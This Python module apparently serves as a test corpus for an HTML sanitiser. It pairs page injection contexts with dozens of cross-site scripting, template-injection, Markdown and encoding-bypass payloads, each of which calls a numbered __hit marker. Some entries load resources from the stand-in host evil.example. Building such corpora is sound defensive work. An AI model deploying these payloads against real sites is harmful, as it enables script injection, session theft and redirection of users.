"""Texts that try to become markup or script, each beside the hole in a page that it is made for.

``RUN`` stands for a call that tells that it was run, and by which text.
"""

HOLES: dict[str, tuple[str, ...]] = {
    "<div>{}</div>": (
        "<script>RUN</script>",
        "<ScRiPt\t>RUN</sCrIpT >",
        "<img src=x onerror=RUN>",
        "<img src='x' onerror='RUN'>",
        '<img src="x" onerror="RUN">',
        '<img/src="x"/onerror=RUN//>',
        "<IMG SRC=x ONERROR=RUN>",
        "<img src=x onerror=&#95;&#x5f;hit(N)>",
        "<img src=x onerror\x0c=\x0cRUN>",
        "<img src=x onerror=RUN ",
        "\u2028<img src=x onerror=RUN>\u2029",
        "\u202e<img src=x onerror=RUN>",
        "\ufeff\u200b<img src=x onerror=RUN>",
        "包头<img src=x　onerror=0 onerror=RUN>",
        "<svg onload=RUN>",
        "<svg/onload=RUN//",
        "<svg><script>RUN</script></svg>",
        "<svg><script>&#95;_hit(N)</script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "<svg><set onbegin=RUN attributeName=x to=1></svg>",
        "<svg><style><img src=x onerror=RUN></style></svg>",
        "<math><mtext></p><img src=x onerror=RUN></math>",
        "<details open ontoggle=RUN>x</details>",
        "<video src=x onerror=RUN></video>",
        "<audio src=x onerror=RUN></audio>",
        "<video><source src=x onerror=RUN></video>",
        "<body onload=RUN>",
        "<body onpageshow=RUN>",
        "<style onload=RUN></style>",
        "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=RUN>x</b>",
        "<link rel=stylesheet href='data:text/css,' onload=RUN>",
        "<iframe onload=RUN></iframe>",
        "<iframe srcdoc='<script>RUN</script>'></iframe>",
        '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
        "<iframe src=javascript:RUN></iframe>",
        "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
        "<object data='data:text/html,<script>RUN</script>'></object>",
        "<embed src='data:text/html,<script>RUN</script>'>",
        '<noscript><p title="</noscript><img src=x onerror=RUN>">',
        '<xmp><p title="</xmp><svg/onload=RUN>">',
        "<!--><img src=x onerror=RUN>-->",
        '<!--<img src="--><img src=x onerror=RUN//">',
        "]]><img src=x onerror=RUN>",
        "<![CDATA[>]]><img src=x onerror=RUN>",
        "</p></article></li></ul></div></section><img src=x onerror=RUN>",
        "<a href=javascript:RUN>go</a>",
        "<form action=javascript:RUN><button>go</button></form>",
        "<form><button formaction=javascript:RUN>go</button></form>",
        "<p onclick=RUN>go</p>",
    ),
    '<p title="{}">x</p>': (
        '"><img src=x onerror=RUN>',
        '" style="animation:k 1s" onanimationstart="RUN" x="',
    ),
    "<p title='{}'>x</p>": (
        "'><svg onload=RUN>",
        "' style='animation:k 1s' onanimationstart='RUN' x='",
    ),
    "<p title={}>x</p>": (
        "x style=animation:k&#32;1s onanimationstart=RUN",
        "`><img src=x onerror=RUN>",
        "x><img src=x onerror=RUN>",
    ),
    '<a href="{}">go</a>': (
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        "  javascript:RUN",
        "java\tscript:RUN",
        "\x01javascript:RUN",
        "&#106;avascript:RUN",
        "javascript&colon;RUN",
        "javascript://news.example/%0aRUN",
        "javascript:/*https://news.example/*/RUN",
    ),
    "<textarea>{}</textarea>": ("</textarea><script>RUN</script>",),
    "<title>{}</title>": ("</title><script>RUN</script>",),
    "<style>{}</style>": ("</style><script>RUN</script>",),
    "<!-- {} -->": ("--><script>RUN</script><!--", "--!><script>RUN</script>"),
    "<script>x = '{}'</script>": ("';RUN;'", "</script><script>RUN</script>"),
    '<script>x = "{}"</script>': ('";RUN;"',),
    "<script>x = `{}`</script>": ("${RUN}", "`;RUN;`"),
}

# Nothing comes of these in plain HTML, but in what fills templates in, reads Markdown or BBCode, decodes
# twice, or was made for other browsers.
FOR_OTHERS = (
    "<marquee onstart=RUN>x</marquee>",
    "\\';RUN;//",
    "{{RUN}}",
    "{{constructor.constructor('RUN')()}}",
    "{{#with (lookup this 'constructor')}}{{constructor 'RUN'}}{{/with}}",
    "{RUN}",
    "{@html '<img src=x onerror=RUN>'}",
    "${{RUN}}",
    "#{RUN} <%= RUN %> {% raw %}{{ cycler.__init__.__globals__ }}RUN",
    "[go](javascript:RUN)",
    '![x](x"onerror="RUN)',
    "<javascript:RUN>",
    "[go]: javascript:RUN 'go'\n\n[go]",
    "![RUN](https://evil.example/x.png)",
    "[RUN](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "$\\href{javascript:RUN}{go}$",
    "[url=javascript:RUN]go[/url]",
    '[img]x" onerror="RUN[/img]',
    "%3Cimg src=x onerror=RUN%3E",
    "&lt;img src=x onerror=RUN&gt;",
    "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "+ADw-img src=x onerror=RUN+AD4-",
    "＜img src=x onerror=RUN＞",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<scr\x00ipt>RUN</scr\x00ipt>",
    "vbscript:RUN",
    "data:text/html,<script>RUN</script>",
    "<p style='x:expression(RUN)'>",
    "<p style=\"background:url('https://evil.example/RUN')\">",
    "<style>@import 'https://evil.example/RUN';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/RUN'>",
    "<base href='https://evil.example/RUN/'>",
    "<form id=chat-root><input name=innerHTML value=RUN></form>",
    "<img name=getElementById><img name=querySelector alt=RUN>",
    "<a id=reexOpen></a><a id=reexOpen name=x href=javascript:RUN></a>",
    "A" * 600 + "<img src=x onerror=RUN>",
)


def _numbered(text: str, n: int) -> str:
    return text.replace("RUN", f"__hit({n})").replace("hit(N)", f"hit({n})")


_all = [(hole, text) for hole, texts in HOLES.items() for text in texts] + [("", text) for text in FOR_OTHERS]
PAYLOADS = tuple(_numbered(text, n) for n, (_, text) in enumerate(_all))
"""All of them, each with its place in this list as its number."""

IN_HOLES = tuple(hole.replace("{}", PAYLOADS[n]) for n, (hole, _) in enumerate(_all) if hole)
"""Those of `HOLES` as they would stand in a page that escapes nothing."""
